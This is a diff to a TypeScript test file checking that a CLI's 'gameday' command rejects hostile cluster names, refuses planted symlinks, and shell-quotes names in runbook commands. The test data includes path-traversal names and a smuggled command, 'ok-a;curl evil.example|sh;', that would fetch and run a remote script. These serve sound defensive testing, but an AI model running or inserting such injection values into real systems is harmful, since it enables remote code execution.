@@ -10,6 +10,8 @@ import { fileSegment, relativePathProblem } from "../../server/src/util/paths";
 import { shellLine, shellWord } from "../../server/src/util/shell";
 import { terminalText } from "../../server/src/util/terminal";
 import { codeSpan } from "../../server/src/util/format";
+import { analyzeFile } from "../../server/src/analysis";
+import { gameDay } from "../../server/src/whatif/gameday";
 import { HEADER, inTempDir } from "../helpers";
 
 /** Two sites with one cluster each; the first cluster's name is `first`. */
@@ -192,58 +194,93 @@ test("writeOutputFile: a folder, /dev/full, a missing folder and an existing fil
       );
   }));
 
-test("quorate gameday: hostile cluster names stay inside -o, symlinks and existing files are refused, errors are one line", () =>
-  inTempDir({ "d.topology.yaml": design("../escaped"), "victim.txt": "precious\n" }, (dir, cli) => {
-    let r = cli(gameday(["-o", "out"]));
-    assert.equal(r.code, 0, r.stderr);
+/** The game day the CLI would write for `first`, straight from the engine (the CLI refuses a name the schema rejects, so this is the guard behind that refusal). */
+const gameDayOf = (first: string) =>
+  gameDay(
+    analyzeFile("d.topology.yaml", design(first)).contexts[0],
+    { lose: ["fra"] },
+    { tool: "chaos-mesh", source: "d.topology.yaml", namespaces: ["app"] },
+  );
+
+/** The CLI refuses a design whose cluster name breaks the schema: exit 2, one line, nothing written. */
+function refused(dir: string, cli: (argv: string[]) => { code: number; stderr: string }, name: string) {
+  const r = cli(gameday(["-o", "out"]));
+  assert.equal(r.code, 2, r.stderr);
+  assert.match(r.stderr, /^quorate: d\.topology\.yaml:\d+:\d+: `name` [^\n]* is not a DNS label[^\n]*\n$/);
+  assert.ok(!existsSync(join(dir, "out")), `a refused game day wrote out/ (${name})`);
+}
+
+test("quorate gameday: hostile cluster names are refused, and kept inside the folder behind that; symlinks and existing files are refused, errors are one line", () =>
+  inTempDir({ "d.topology.yaml": design("../escaped"), "ok.topology.yaml": design("fra-prod"), "victim.txt": "precious\n" }, (dir, cli) => {
+    refused(dir, cli, "../escaped");
     assert.ok(!existsSync(join(dir, "escaped")));
+    // behind the refusal: the engine's own paths for that name are one safe segment
+    const paths = gameDayOf("../escaped").files.map((f) => f.path);
+    assert.ok(
+      paths.every((p) => relativePathProblem(p) === undefined && !p.split("/").includes("..")),
+      paths.join(","),
+    );
+    assert.ok(
+      paths.some((p) => /^escaped-[0-9a-f]{8}\//.test(p)),
+      paths.join(","),
+    );
+    const ok = (out: string[]) => cli([...gameday(out).slice(0, -1), "ok.topology.yaml"]);
+    let r = ok(["-o", "out"]);
+    assert.equal(r.code, 0, r.stderr);
     const inside = readdirSync(join(dir, "out")).sort();
-    assert.equal(inside.length, 3, inside.join(","));
-    assert.deepEqual(inside.filter((x) => x !== "RUNBOOK.md" && x !== "lon-prod").length, 1);
-    assert.match(inside[1], /^escaped-[0-9a-f]{8}$/);
+    assert.ok(
+      ["RUNBOOK.md", "fra-prod", "lon-prod"].every((x) => inside.includes(x)),
+      inside.join(","),
+    );
     // running again refuses to overwrite; --force replaces
-    r = cli(gameday(["-o", "out"]));
+    r = ok(["-o", "out"]);
     assert.equal(r.code, 2);
     assert.match(r.stderr, /^quorate: .*already exists: not overwritten \(pass --force to replace it\)\n$/);
-    assert.equal(cli(gameday(["-o", "out", "--force"])).code, 0);
-    // a RUNBOOK.md planted as a symlink in the default folder
+    assert.equal(ok(["-o", "out", "--force"]).code, 0);
+    // a RUNBOOK.md planted as a symlink in the chosen folder
     mkdirSync(join(dir, "planted"));
     symlinkSync("../victim.txt", join(dir, "planted", "RUNBOOK.md"));
-    r = cli(gameday(["-o", "planted", "--force"]));
+    r = ok(["-o", "planted", "--force"]);
     assert.equal(readFileSync(join(dir, "victim.txt"), "utf8"), "precious\n");
-    r = cli(gameday(["-o", ""]));
+    r = ok(["-o", ""]);
     assert.equal(r.code, 2);
     assert.equal(r.stderr, "quorate: -o needs a file or folder name, not an empty string\n");
-    r = cli(gameday(["-o", "victim.txt"]));
+    r = ok(["-o", "victim.txt"]);
     assert.equal(r.code, 2);
     assert.equal(r.stderr, "quorate: victim.txt is not a regular file, not a folder\n");
   }));
 
 test("quorate gameday: an absolute cluster name, /proc/self and a default folder planted as a symlink", () =>
-  inTempDir({ "d.topology.yaml": design("/tmp/quorate-abs-escape") }, (dir, cli) => {
-    let r = cli(gameday(["-o", "o"]));
-    assert.equal(r.code, 0, r.stderr);
+  inTempDir({ "d.topology.yaml": design("/tmp/quorate-abs-escape"), "ok.topology.yaml": design("fra-prod") }, (dir, cli) => {
+    refused(dir, cli, "/tmp/quorate-abs-escape");
     assert.ok(!existsSync("/tmp/quorate-abs-escape"));
+    const paths = gameDayOf("/tmp/quorate-abs-escape").files.map((f) => f.path);
+    assert.ok(
+      paths.every((p) => !p.startsWith("/") && relativePathProblem(p) === undefined),
+      paths.join(","),
+    );
+    const ok = (out: string[]) => cli([...gameday(out).slice(0, -1), "ok.topology.yaml"]);
+    let r: { code: number; stderr: string };
     if (existsSync("/proc/self")) {
-      r = cli(gameday(["-o", "/proc/self"]));
+      r = ok(["-o", "/proc/self"]);
       assert.equal(r.code, 2);
       assert.match(r.stderr, /^quorate: cannot create \/proc\/self\/[^:]+: no such file or folder\n$/);
     }
     mkdirSync(join(dir, "elsewhere"));
     symlinkSync(join(dir, "elsewhere"), join(dir, "gameday-lose-fra"));
-    r = cli(gameday([]));
+    r = ok([]);
     assert.equal(r.code, 2);
     assert.equal(r.stderr, "quorate: gameday-lose-fra is a symbolic link: not followed (choose the folder with -o)\n");
     assert.deepEqual(readdirSync(join(dir, "elsewhere")), []);
   }));
 
 test("the runbook's copy-paste lines carry names as single shell words", () =>
-  inTempDir({ "d.topology.yaml": design("ok-a;curl evil.example|sh;") }, (_dir, cli) => {
-    const r = cli([...gameday([]).slice(0, -1), "--format", "md", "d.topology.yaml"]);
-    assert.equal(r.code, 0, r.stderr);
-    assert.ok(!/kubectl --context ok-a;curl/.test(r.stdout), r.stdout);
+  inTempDir({ "d.topology.yaml": design("ok-a;curl evil.example|sh;") }, (dir, cli) => {
+    refused(dir, cli, "ok-a;curl evil.example|sh;");
+    const runbook = gameDayOf("ok-a;curl evil.example|sh;").files.find((f) => f.path === "RUNBOOK.md")!.content;
+    assert.ok(!/kubectl --context ok-a;curl/.test(runbook), runbook);
     assert.match(
-      r.stdout,
+      runbook,
       /`kubectl --context 'ok-a;curl evil\.example\\\|sh;' apply -f ok-a-curl-evil-example-sh-[0-9a-f]{8}\/networkchaos\.yaml`/,
     );
   }));
